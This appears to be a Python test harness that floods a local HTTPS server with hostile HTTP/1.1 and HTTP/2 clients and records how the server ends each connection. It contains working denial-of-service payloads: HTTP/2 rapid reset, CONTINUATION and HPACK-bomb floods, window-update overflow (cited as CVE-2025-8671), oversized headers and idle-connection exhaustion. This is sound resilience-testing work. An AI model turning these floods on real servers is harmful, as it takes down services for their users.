#!/usr/bin/env python3
"""Clients that mean harm: each does what no honest client does, as fast as it can, within
bounds of count and time. HTTP/2 is written frame by frame, by `hyperframe` and `hpack`.

    floods.py http1 PORT CA KIND SECONDS       eight clients, one connection after the other
    floods.py http2 PORT CA KIND MOST SECONDS  four clients, MOST blows together
    floods.py idle PORT CA COUNT               opens COUNT connections, prints `open COUNT`, and waits
                                               for a line; then asks on some of them
    floods.py app                              prints its port; takes a second for each answer, but for
                                               `/asked`: how many it was asked for; ends with its stdin

The clients print one line of JSON when they have ended. A connection that the server ended is
counted in `ended`, by what it said before: the status of HTTP/1, the error of HTTP/2's GOAWAY,
or `closed`. `open` counts those that it let go on. `most` is what the longest was sent; bytes,
and blows.
"""

import asyncio
import collections
import json
import logging
import os
import resource
import ssl
import struct
import sys
import time

import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HTTP1_CLIENTS = 8
HTTP2_CLIENTS = 4
# What one connection of HTTP/1 sends at most where nobody ends it, in bytes.
HTTP1_MOST = 4 << 20
# How many bytes are sent without a look at what came back.
EARFUL = 4 << 10
# How many requests are let begin before they are reset, and for how long; seconds.
TURN = 20
BREATH = 0.05
# How long sending may take, and then an end that what was sent asks for; seconds.
PATIENCE = 5
FAREWELL = 1


def trust(ca, protocol):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols([protocol])
    return context


async def connect(port, context):
    return await asyncio.open_connection("127.0.0.1", int(port), ssl=context, server_hostname="localhost")


class Toll:
    """What became of a flood."""

    def __init__(self):
        self.connections = self.sent = self.open = self.most = 0
        self.ended = collections.Counter()
        self.frames = collections.Counter()
        self.began = time.monotonic()

    def told(self):
        return json.dumps(
            {
                "connections": self.connections,
                "sent": self.sent,
                "most": self.most,
                "open": self.open,
                "ended": self.ended,
                "frames": self.frames,
                "seconds": round(time.monotonic() - self.began, 1),
            }
        )


# --- HTTP/1.1 ------------------------------------------------------------------------------


def endless(first, piece):
    yield first
    while True:
        yield piece


HEAD = b"GET / HTTP/1.1\r\nhost: localhost\r\n"
CHUNKED = b"POST /sink HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
FILLER = b"a" * (16 << 10)

HTTP1 = {
    # Lines of a head that has no end.
    "endless": lambda: endless(HEAD, b"x-one: " + b"a" * 1000 + b"\r\n"),
    # More fields than anybody needs, small enough to fit in what a head may have.
    "fields": lambda: [HEAD + b"".join(b"x%d: y\r\n" % at for at in range(5000)) + b"\r\n"],
    "giant-field": lambda: endless(HEAD + b"x-one: ", FILLER),
    "giant-name": lambda: endless(HEAD, FILLER),
    "giant-target": lambda: endless(b"GET /", FILLER),
    "giant-method": lambda: endless(b"GET", b"A" * (16 << 10)),
    # Empty lines before a request are skipped by many.
    "empty-lines": lambda: endless(b"", b"\r\n" * (8 << 10)),
    "extensions": lambda: endless(CHUNKED + b"1;", FILLER),
    "trailers": lambda: endless(CHUNKED + b"0\r\n", b"x-one: " + b"a" * 1000 + b"\r\n"),
    # Noughts before a chunk's length mean nothing, however many.
    "chunk-size": lambda: endless(CHUNKED, b"0" * (16 << 10)),
}


async def http1_once(port, context, kind, toll):
    reader, writer = await connect(port, context)
    toll.connections += 1
    # A client that floods doesn't read; what was answered is looked at afterwards.
    sent, said, over = 0, b"", False
    try:
        async with asyncio.timeout(PATIENCE):
            for piece in HTTP1[kind]():
                if sent >= HTTP1_MOST:
                    break
                writer.write(piece)
                await writer.drain()
                sent += len(piece)
    # A timeout is an OSError as well.
    except TimeoutError:
        pass
    except OSError:
        over = True
    toll.sent += sent
    toll.most = max(toll.most, sent)
    try:
        async with asyncio.timeout(PATIENCE):
            while piece := await reader.read(64 << 10):
                said = said or piece
            over = True
    except TimeoutError:
        pass
    except OSError:
        over = True
    writer.transport.abort()
    if over:
        toll.ended[said.split(b" ")[1].decode() if said.startswith(b"HTTP/1.1 ") else "closed"] += 1
    else:
        toll.open += 1


async def http1(port, ca, kind, seconds):
    context, toll = trust(ca, "http/1.1"), Toll()
    until = time.monotonic() + float(seconds)

    async def client():
        while time.monotonic() < until:
            await http1_once(port, context, kind, toll)

    await asyncio.gather(*(client() for _ in range(HTTP1_CLIENTS)))
    return toll


# --- HTTP/2 --------------------------------------------------------------------------------


def head(method="GET", path="/flood", more=()):
    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more]
    # Never indexed: each block stands for itself, whatever came before it.
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


def opened(stream, block, *flags):
    return frames.HeadersFrame(stream, block, flags=["END_HEADERS", *flags]).serialize()


def ended(stream, block):
    return opened(stream, block, "END_STREAM")


def data(stream, payload=b"", *flags):
    return frames.DataFrame(stream, payload, flags=list(flags)).serialize()


def reset(stream):
    return frames.RstStreamFrame(stream, error_code=8).serialize()


def widened(stream, by):
    # By hand: hyperframe makes no frame that the rules forbid.
    return b"\x00\x00\x04\x08\x00" + struct.pack("!II", stream, by)


def each(blow):
    """One blow for each stream that there may be."""
    return ((blow(stream), 1) for stream in range(1, 1 << 31, 2))


def again(first, blow):
    yield first, 0
    while True:
        yield blow * 20, 20


def in_turns(block):
    """Requests that may begin before they are reset."""
    for first in range(1, 1 << 31, 2 * TURN):
        these = range(first, first + 2 * TURN, 2)
        yield b"".join(ended(stream, block) for stream in these), 0
        yield None, 0
        yield b"".join(map(reset, these)), TURN


def continued(block, more):
    return again(frames.HeadersFrame(1, block).serialize(), frames.ContinuationFrame(1, more).serialize())


def bomb():
    """A field of 4,000 bytes is told once, and then meant 12,000 times by a byte each."""
    encoder = hpack.Encoder()
    first = encoder.encode([("x-bomb", "b" * 4000)], huffman=False)
    byte = encoder.encode([("x-bomb", "b" * 4000)])
    assert len(byte) == 1, byte
    get = head()
    return each(lambda stream: ended(stream, get + (first if stream == 1 else b"") + byte * 12_000))


def blows(kind):
    """Pieces to send, and how many blows each is; in place of a piece `None` for a breath."""
    get, post = head(), head("POST", "/sink")
    short = head("POST", "/sink", [("content-length", "5")])
    upload = opened(1, post)
    return {
        "reset": lambda: each(lambda stream: ended(stream, get) + reset(stream)),
        "reset-upload": lambda: each(lambda stream: opened(stream, post) + reset(stream)),
        "reset-in-turns": lambda: in_turns(get),
        # A head that never ends: of large pieces, of small fields, of nothing.
        "continuation": lambda: continued(get, b"\x00\x01a\x7f\xa1\x7e" + b"a" * 16_288),
        "continuation-small": lambda: continued(get, b"\x00\x01x\x01y"),
        "continuation-empty": lambda: continued(get, b""),
        "bomb": bomb,
        "settings": lambda: again(b"", frames.SettingsFrame(0, {4: 65_535}).serialize()),
        "ping": lambda: again(b"", frames.PingFrame(0, b"12345678").serialize()),
        # The same, of which no answer is read.
        "ping-unread": lambda: again(b"", frames.PingFrame(0, b"12345678").serialize()),
        "window": lambda: again(b"", widened(0, 1)),
        "window-of-stream": lambda: again(upload, widened(1, 1)),
        "priority": lambda: again(b"", frames.PriorityFrame(1001, stream_weight=3).serialize()),
        "unknown": lambda: again(b"", b"\x00\x00\x08\xbb\x00\x00\x00\x00\x0012345678"),
        "empty-data": lambda: again(upload, data(1)),
        "padded-data": lambda: again(upload, frames.DataFrame(1, b"", pad_length=255, flags=["PADDED"]).serialize()),
        "small-data": lambda: again(upload, data(1, b"x")),
        # What makes the server itself reset streams (CVE-2025-8671).
        "overflow": lambda: each(lambda stream: ended(stream, get) + widened(stream, (1 << 31) - 1)),
        "no-increment": lambda: each(lambda stream: ended(stream, get) + widened(stream, 0)),
        "data-after-end": lambda: each(lambda stream: ended(stream, get) + data(stream, b"more")),
        "head-after-end": lambda: each(lambda stream: ended(stream, get) + ended(stream, get)),
        "short-body": lambda: each(lambda stream: opened(stream, short) + data(stream, b"four", "END_STREAM")),
        "depends-on-itself": lambda: each(
            lambda stream: ended(stream, get) + frames.PriorityFrame(stream, depends_on=stream).serialize()
        ),
        "malformed": lambda: each(lambda stream: ended(stream, head(more=[("Upper", "case")]))),
        # Streams beyond those allowed at once; none of them ends.
        "crowd": lambda: each(lambda stream: opened(stream, post)),
    }[kind]()


async def hear(reader, toll, may):
    """Reads to the end, once it may; what the server said of it."""
    said = "closed"
    await may.wait()
    try:
        while True:
            start = await reader.readexactly(9)
            frame, length = frames.Frame.parse_frame_header(memoryview(start))
            body = await reader.readexactly(length)
            toll.frames[type(frame).__name__.removesuffix("Frame")] += 1
            if isinstance(frame, frames.GoAwayFrame):
                frame.parse_body(memoryview(body))
                said = f"{frame.error_code} {bytes(frame.additional_data).decode()}".strip()
    except (asyncio.IncompleteReadError, OSError):
        return said


async def http2_once(port, context, kind, most, until, toll):
    reader, writer = await connect(port, context)
    toll.connections += 1
    heard = asyncio.Event()
    hearing = asyncio.ensure_future(hear(reader, toll, heard))
    if not kind.endswith("-unread"):
        heard.set()
    writer.write(PREFACE + frames.SettingsFrame(0).serialize())
    sent = unheard = 0
    try:
        async with asyncio.timeout(max(0.1, until - time.monotonic())):
            for piece, count in blows(kind):
                if hearing.done() or toll.sent >= most:
                    break
                writer.write(piece or b"")
                sent += count
                toll.sent += count
                unheard += len(piece or b"")
                if piece is None or unheard >= EARFUL:
                    await writer.drain()
                    # By itself that gives nobody else a turn.
                    await asyncio.sleep(BREATH if piece is None else 0)
                    unheard = 0
    except OSError:  # as a timeout is
        pass
    toll.most = max(toll.most, sent)
    heard.set()
    done, _ = await asyncio.wait([hearing], timeout=FAREWELL)
    writer.transport.abort()
    if done:
        toll.ended[hearing.result()] += 1
    else:
        hearing.cancel()
        toll.open += 1


async def http2(port, ca, kind, most, seconds):
    context, toll = trust(ca, "h2"), Toll()
    until, most = time.monotonic() + float(seconds), int(most)

    async def client():
        while time.monotonic() < until and toll.sent < most:
            await http2_once(port, context, kind, most, until, toll)

    await asyncio.gather(*(client() for _ in range(HTTP2_CLIENTS)))
    return toll


# --- Connections that do nothing ------------------------------------------------------------


async def idle(port, ca, count):
    context, toll = trust(ca, "http/1.1"), Toll()
    left, held = iter(range(int(count))), []

    async def client():
        for _ in left:
            held.append(await connect(port, context))

    await asyncio.gather(*(client() for _ in range(HTTP1_CLIENTS)))
    toll.connections = len(held)
    print("open", len(held), flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
    for reader, writer in held[:: len(held) // 50]:
        writer.write(HEAD + b"\r\n")
        toll.sent += 1
        toll.ended[(await reader.readline()).split(b" ")[1].decode()] += 1
    for _, writer in held:
        writer.transport.abort()
    return toll


# --- An app that takes its time -------------------------------------------------------------


async def app():
    asked = 0

    async def serve(reader, writer):
        nonlocal asked
        try:
            while head := await reader.readuntil(b"\r\n\r\n"):
                if head.startswith(b"GET /asked "):
                    body = str(asked).encode()
                else:
                    asked += 1
                    # It doesn't see that somebody has left.
                    await asyncio.sleep(1)
                    body = b"done"
                writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body))
                await writer.drain()
        except (asyncio.IncompleteReadError, OSError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=4096)
    print(server.sockets[0].getsockname()[1], flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    # What still waits isn't waited for.
    os._exit(0)


def main():
    # asyncio has much to say of sockets that were closed under it.
    logging.disable()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    what, *rest = sys.argv[1:]
    toll = asyncio.run({"http1": http1, "http2": http2, "idle": idle, "app": app}[what](*rest))
    print(toll.told(), flush=True)


if __name__ == "__main__":
    main()
